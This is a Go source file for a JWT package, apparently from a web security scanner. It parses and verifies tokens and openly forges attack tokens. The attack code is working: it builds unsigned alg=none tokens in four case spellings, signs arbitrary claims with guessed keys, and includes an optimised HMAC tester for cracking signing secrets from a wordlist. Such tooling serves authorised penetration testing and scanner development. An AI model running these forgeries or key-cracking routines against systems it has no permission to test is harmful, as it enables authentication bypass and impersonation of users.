// Package jwt parses, verifies, signs and forges JSON Web Tokens (JWS
// compact form) for the scanner's attacks: alg=none in its spellings,
// HMAC keys from a wordlist, tokens signed with a random key, expired and
// exp-less tokens. It implements only the HMAC algorithms: an attacker
// forges with HS*, and asymmetric keys are not guessable.
//
// Every input is hostile: a token comes from the network or a config file.
package jwt

import (
	"bytes"
	"crypto/hmac"
	"crypto/sha256"
	"crypto/sha512"
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"hash"
	"regexp"
	"strings"
)

// MaxLen bounds the tokens the parser accepts.
const MaxLen = 64 << 10

// shape matches a compact JWS whose header and claims are JSON objects
// (base64url of '{"' starts with "eyJ"); the signature may be empty.
var shape = regexp.MustCompile(`^eyJ[A-Za-z0-9_-]*\.eyJ[A-Za-z0-9_-]*\.[A-Za-z0-9_-]*$`)

// Find locates a JWT inside a larger text (a header value, a body).
var Find = regexp.MustCompile(`eyJ[A-Za-z0-9_-]{8,}\.eyJ[A-Za-z0-9_-]{4,}\.[A-Za-z0-9_-]*`)

// Looks reports whether s has the shape of a JWT.
func Looks(s string) bool { return len(s) <= MaxLen && shape.MatchString(s) }

// Errors.
var (
	ErrShape = errors.New("not a JWT")
	ErrAlg   = errors.New("unsupported algorithm")
)

// Token is a parsed token.
type Token struct {
	Raw       string
	Header    map[string]any
	Claims    map[string]any
	Signature []byte
	// SigningInput is "header.claims" as sent: what the signature covers.
	SigningInput string
}

// Parse splits and decodes a token without verifying it.
func Parse(s string) (*Token, error) {
	s = strings.TrimSpace(s)
	if !Looks(s) {
		return nil, ErrShape
	}
	parts := strings.Split(s, ".")
	t := &Token{Raw: s, SigningInput: parts[0] + "." + parts[1]}
	var err error
	if t.Header, err = object(parts[0]); err != nil {
		return nil, fmt.Errorf("%w: header: %v", ErrShape, err)
	}
	if t.Claims, err = object(parts[1]); err != nil {
		return nil, fmt.Errorf("%w: claims: %v", ErrShape, err)
	}
	if t.Signature, err = b64(parts[2]); err != nil {
		return nil, fmt.Errorf("%w: signature: %v", ErrShape, err)
	}
	return t, nil
}

func b64(s string) ([]byte, error) {
	return base64.RawURLEncoding.DecodeString(strings.TrimRight(s, "="))
}

func object(seg string) (map[string]any, error) {
	raw, err := b64(seg)
	if err != nil {
		return nil, err
	}
	dec := json.NewDecoder(bytes.NewReader(raw))
	dec.UseNumber()
	var m map[string]any
	if err := dec.Decode(&m); err != nil {
		return nil, err
	}
	if m == nil {
		return nil, errors.New("null")
	}
	return m, nil
}

// Alg is the header's alg ("" when absent or not a string).
func (t *Token) Alg() string {
	s, _ := t.Header["alg"].(string)
	return s
}

// HMAC reports whether the token is signed with an HMAC algorithm.
func (t *Token) HMAC() bool { return hashFor(t.Alg()) != nil }

func hashFor(alg string) func() hash.Hash {
	switch alg {
	case "HS256":
		return sha256.New
	case "HS384":
		return sha512.New384
	case "HS512":
		return sha512.New
	}
	return nil
}

// Verify reports whether an HMAC-signed token was signed with key.
func (t *Token) Verify(key []byte) bool {
	h := hashFor(t.Alg())
	if h == nil {
		return false
	}
	m := hmac.New(h, key)
	m.Write([]byte(t.SigningInput))
	return hmac.Equal(m.Sum(nil), t.Signature)
}

// Tester returns a key tester for a cracker (one per goroutine), or nil
// when the token is not HMAC-signed.
func (t *Token) Tester() func(key []byte) bool {
	h := hashFor(t.Alg())
	if h == nil {
		return nil
	}
	f := newHMAC(h)
	msg := []byte(t.SigningInput)
	want := t.Signature
	var buf [64]byte
	return func(key []byte) bool {
		return bytes.Equal(f.sum(buf[:0], key, msg), want)
	}
}

// Expiry returns the exp claim as Unix seconds and whether it is present
// and numeric.
func (t *Token) Expiry() (int64, bool) { return numClaim(t.Claims, "exp") }

func numClaim(c map[string]any, name string) (int64, bool) {
	switch v := c[name].(type) {
	case json.Number:
		if i, err := v.Int64(); err == nil {
			return i, true
		}
		if f, err := v.Float64(); err == nil {
			return int64(f), true
		}
	case float64:
		return int64(v), true
	case int64:
		return v, true
	case int:
		return int64(v), true
	}
	return 0, false
}

func segment(v any) (string, error) {
	b, err := json.Marshal(v)
	if err != nil {
		return "", fmt.Errorf("encode: %w", err)
	}
	return base64.RawURLEncoding.EncodeToString(b), nil
}

// Sign encodes header and claims and signs them with key using the
// header's alg (HS256 when the header has none).
func Sign(header, claims map[string]any, key []byte) (string, error) {
	h := map[string]any{}
	for k, v := range header {
		h[k] = v
	}
	if _, ok := h["alg"]; !ok {
		h["alg"] = "HS256"
	}
	if _, ok := h["typ"]; !ok {
		h["typ"] = "JWT"
	}
	alg, _ := h["alg"].(string)
	hf := hashFor(alg)
	if hf == nil {
		return "", fmt.Errorf("%w: %q", ErrAlg, alg)
	}
	hs, err := segment(h)
	if err != nil {
		return "", err
	}
	cs, err := segment(claims)
	if err != nil {
		return "", err
	}
	m := hmac.New(hf, key)
	m.Write([]byte(hs + "." + cs))
	return hs + "." + cs + "." + base64.RawURLEncoding.EncodeToString(m.Sum(nil)), nil
}

// NoneAlgs are the spellings of "none" verifiers have been fooled by:
// the lower-case one of RFC 7518 and the ones only a custom, case-blind
// check accepts.
var NoneAlgs = []string{"none", "None", "NONE", "nOnE"}

// None forges an unsigned token ("header.claims.") with the given
// spelling of alg=none.
func None(alg string, header, claims map[string]any) (string, error) {
	h := map[string]any{}
	for k, v := range header {
		h[k] = v
	}
	h["alg"] = alg
	if _, ok := h["typ"]; !ok {
		h["typ"] = "JWT"
	}
	hs, err := segment(h)
	if err != nil {
		return "", err
	}
	cs, err := segment(claims)
	if err != nil {
		return "", err
	}
	return hs + "." + cs + ".", nil
}

// fastHMAC reuses hash states and pads across keys (see flasksession).
type fastHMAC struct {
	inner, outer hash.Hash
	block        int
	ipad, opad   []byte
	kbuf, ibuf   []byte
}

func newHMAC(h func() hash.Hash) *fastHMAC {
	in, out := h(), h()
	bs := in.BlockSize()
	return &fastHMAC{inner: in, outer: out, block: bs, ipad: make([]byte, bs), opad: make([]byte, bs),
		kbuf: make([]byte, 0, in.Size()), ibuf: make([]byte, 0, in.Size())}
}

func (f *fastHMAC) sum(dst, key, msg []byte) []byte {
	if len(key) > f.block {
		f.inner.Reset()
		f.inner.Write(key)
		key = f.inner.Sum(f.kbuf[:0])
	}
	for i := 0; i < f.block; i++ {
		var k byte
		if i < len(key) {
			k = key[i]
		}
		f.ipad[i] = k ^ 0x36
		f.opad[i] = k ^ 0x5c
	}
	f.inner.Reset()
	f.inner.Write(f.ipad)
	f.inner.Write(msg)
	in := f.inner.Sum(f.ibuf[:0])
	f.outer.Reset()
	f.outer.Write(f.opad)
	f.outer.Write(in)
	return f.outer.Sum(dst)
}
